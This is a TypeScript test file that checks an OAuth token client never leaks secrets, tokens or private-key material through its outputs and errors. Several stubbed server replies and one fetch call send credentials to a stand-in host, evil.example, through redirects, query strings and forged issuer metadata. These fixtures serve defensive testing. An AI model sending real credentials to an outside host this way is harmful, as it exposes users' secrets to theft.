/** Secrets and tokens leave no trace in anything that a token client puts out. */
import {
  clientSecretBasic,
  clientSecretPost,
  createTokenClient,
  privateKeyJwt,
  TOKEN_CHANNEL,
  type TokenClient,
  type TokenClientOptions,
} from '@scopegate/client';
import { beforeEach, describe, expect } from 'vitest';
import {
  createStubClock,
  createStubTokenServer,
  grantToken,
  ISSUER,
  metadata,
  RESOURCE,
  type SeenRequest,
  refuseToken,
  type StubTokenServer,
} from '../../support/stub-token-server.js';
import { verifies } from '../support/verifies.js';
import { type Output, watchOutput } from './tracer.js';
import { createKeyPair } from '../../support/key-pairs.js';

const SECRET = 'canary-secret';
const TOKEN = 'canary-token';
const ANALYTICS = { resource: RESOURCE, scope: 'read:analytics' };
const ROWS = `${RESOURCE}/rows`;

const { privateKey, privateJwk } = createKeyPair('P-256');
const pem = String(privateKey.export({ type: 'pkcs8', format: 'pem' }));
const { d: privateNumber = '' } = privateJwk;

/** Secrets and tokens, in each form that they are sent in. */
const CANARIES = [
  SECRET,
  TOKEN,
  Buffer.from(`nightly-report:${SECRET}`).toString('base64'),
  Buffer.from(`nightly%2Dreport:canary%2Dsecret`).toString('base64'),
  pem.split('\n')[1] ?? 'no key',
  privateNumber,
];

function findCanaries(text: string): string[] {
  return CANARIES.filter((canary) => text.includes(canary));
}

describe('leaks of a token client: secrets and tokens', () => {
  let output: Output;

  beforeEach(() => {
    output = watchOutput([TOKEN_CHANNEL]);
  });

  function clientOf(server: StubTokenServer, options: Partial<TokenClientOptions> = {}) {
    return createTokenClient({
      issuer: ISSUER,
      clientId: 'nightly-report',
      clientAuthentication: clientSecretBasic(() => SECRET),
      fetch: server.fetch,
      clock: createStubClock(),
      ...options,
    });
  }

  /** Uses a client in each way there is. */
  async function use(client: TokenClient): Promise<unknown[]> {
    const source = client.for(ANALYTICS);
    const outcomes = await Promise.allSettled([
      source.token(),
      source.fetch(ROWS),
      source.fetch(ROWS, { method: 'POST', body: 'a=b' }),
      client.for({ ...ANALYTICS, requireGranted: true }).token(),
    ]);
    return [client, source, ...outcomes];
  }

  function quote({ url, headers, body }: SeenRequest): string {
    return `${url} ${JSON.stringify([...headers])} ${decodeURIComponent(body)}`;
  }

  const grant = (): Response => grantToken({ access_token: TOKEN });
  const refuseWithEcho = (error: string) => (request: SeenRequest) =>
    refuseToken(error, { error_description: quote(request), error_uri: quote(request) });

  const REPLIES: readonly (readonly [string, Partial<StubTokenServer>])[] = [
    ['all goes well', { onToken: grant }],
    ['the scope is smaller', { onToken: () => grantToken({ access_token: TOKEN, scope: 'a' }) }],
    ['the client is refused, and quoted', { onToken: refuseWithEcho('invalid_client') }],
    ['the scope is refused, and the client quoted', { onToken: refuseWithEcho('invalid_scope') }],
    ['the error itself is a quotation', { onToken: (request) => refuseToken(quote(request)) }],
    [
      'an error page quotes the request',
      { onToken: (sent) => new Response(quote(sent), { status: 500 }) },
    ],
    ['a page quotes the request', { onToken: (request) => new Response(quote(request)) }],
    [
      'the type is another',
      { onToken: () => grantToken({ access_token: TOKEN, token_type: 'mac' }) },
    ],
    [
      'the scope is not a string',
      { onToken: () => grantToken({ access_token: TOKEN, scope: [TOKEN] }) },
    ],
    ['the token is malformed', { onToken: () => grantToken({ access_token: `${TOKEN}\r\nx: y` }) }],
    ['half a document comes', { onToken: () => new Response(`{"access_token":"${TOKEN}`) }],
    [
      'the redirect quotes the request',
      {
        onToken: (request) =>
          new Response(null, {
            status: 307,
            headers: { location: `https://evil.example/?${encodeURIComponent(quote(request))}` },
          }),
      },
    ],
    [
      'the network fails, and quotes the request',
      {
        onToken: (request) => Promise.reject(new Error(quote(request), { cause: request })),
      },
    ],
    [
      'the metadata is of another',
      {
        onMetadata: () => Response.json(metadata({ issuer: `https://evil.example/${SECRET}` })),
      },
    ],
    [
      'the API refuses the token, and quotes it',
      {
        onToken: grant,
        onApi: (request) =>
          new Response(null, {
            status: 401,
            headers: {
              'www-authenticate': `Bearer error="invalid_token", error_description="${request.url}"`,
            },
          }),
      },
    ],
    [
      'the API redirects',
      {
        onToken: grant,
        onApi: () =>
          new Response(null, { status: 302, headers: { location: 'http://evil.example/' } }),
      },
    ],
  ];
  for (const [name, replies] of REPLIES) {
    verifies(
      'rfc6749#10.3/token-value-leaves-no-trace',
      `leave no trace when ${name}`,
      async () => {
        for (const create of [clientSecretBasic, clientSecretPost]) {
          const server = Object.assign(createStubTokenServer(), replies);
          const client = clientOf(server, { clientAuthentication: create(() => SECRET) });
          output.add(...(await use(client)));
          expect(findCanaries(output.text())).toEqual([]);
        }
      },
    );
  }

  const CREDENTIALS: readonly (readonly [string, TokenClientOptions['clientAuthentication']])[] = [
    [
      'a reader throws the secret',
      clientSecretBasic(() => {
        throw new Error(SECRET);
      }),
    ],
    [
      'a reader rejects with the secret',
      clientSecretPost(() => Promise.reject(new Error(SECRET, { cause: SECRET }))),
    ],
    [
      'a secret manager answers in pieces',
      clientSecretBasic(() => JSON.parse(`{"secret":"${SECRET}`) as string),
    ],
    ['the key is another secret', privateKeyJwt(() => SECRET)],
    ['the key is half a JWK', privateKeyJwt(() => `{"d":"${privateNumber}"`)],
    ['the JWK is malformed', privateKeyJwt(() => ({ kty: 'EC', crv: SECRET, d: privateNumber }))],
    ['the key is for another algorithm', privateKeyJwt(() => pem, { alg: 'RS256' })],
  ];
  for (const [name, clientAuthentication] of CREDENTIALS) {
    verifies(
      'rfc6749#10.3/token-value-leaves-no-trace',
      `leave no trace when ${name}`,
      async () => {
        const server = createStubTokenServer();
        const outcomes = await use(clientOf(server, { clientAuthentication }));
        expect(outcomes).toContainEqual(
          expect.objectContaining({ reason: expect.objectContaining({ reason: 'credential' }) }),
        );
        output.add(...outcomes);
        expect(findCanaries(output.text())).toEqual([]);
        expect(server.tokenRequests).toEqual([]);
      },
    );
  }

  verifies(
    'rfc6749#10.3/token-value-leaves-no-trace',
    'leave no trace in errors of invalid options',
    () => {
      const refusals = [
        () => clientSecretBasic(SECRET as never),
        () => privateKeyJwt(pem as never),
        () => clientOf(createStubTokenServer(), { clientAuthentication: SECRET as never }),
        () => clientOf(createStubTokenServer(), { issuer: `https://u:${SECRET}@auth.example.com` }),
        () => clientOf(createStubTokenServer()).for({ resource: `https://u:${SECRET}@a.example` }),
        () => clientOf(createStubTokenServer()).for({ parameters: { client_secret: SECRET } }),
      ];
      const errors = refusals.map((refuse): unknown => {
        try {
          return refuse();
        } catch (error) {
          return error;
        }
      });
      expect(errors.map((error) => error instanceof TypeError)).toEqual(refusals.map(() => true));
      output.add(...errors);
      expect(findCanaries(output.text())).toEqual([]);
    },
  );

  verifies(
    'rfc6749#10.3/token-value-leaves-no-trace',
    'leave no trace in errors of fetch',
    async () => {
      const server = createStubTokenServer();
      server.onToken = grant;
      const source = clientOf(server).for(ANALYTICS);
      await source.token();
      const outcomes = await Promise.allSettled([
        source.fetch(`https://user:${SECRET}@api.example.com/`),
        source.fetch(`https://evil.example/?token=${TOKEN}`),
        source.fetch(`//${SECRET}`),
        source.fetch(ROWS, { headers: { authorization: `Bearer ${TOKEN}` } }),
      ]);
      expect(new Set(outcomes.map(({ status }) => status))).toEqual(new Set(['rejected']));
      output.add(...outcomes);
      expect(findCanaries(output.text())).toEqual([]);
    },
  );
});
